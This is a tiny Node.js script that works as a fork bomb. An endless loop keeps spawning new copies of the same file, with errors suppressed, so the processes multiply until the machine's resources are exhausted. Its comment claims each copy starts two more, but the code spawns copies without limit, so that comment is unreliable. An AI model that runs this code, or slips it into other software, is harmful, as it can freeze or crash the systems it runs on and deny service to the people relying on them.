// Each copy starts two more of itself, for ever.
const { spawn } = require("child_process");
for (;;) {
  try {
    spawn(process.execPath, [__filename], { detached: false, stdio: "ignore" });
  } catch (e) {}
}
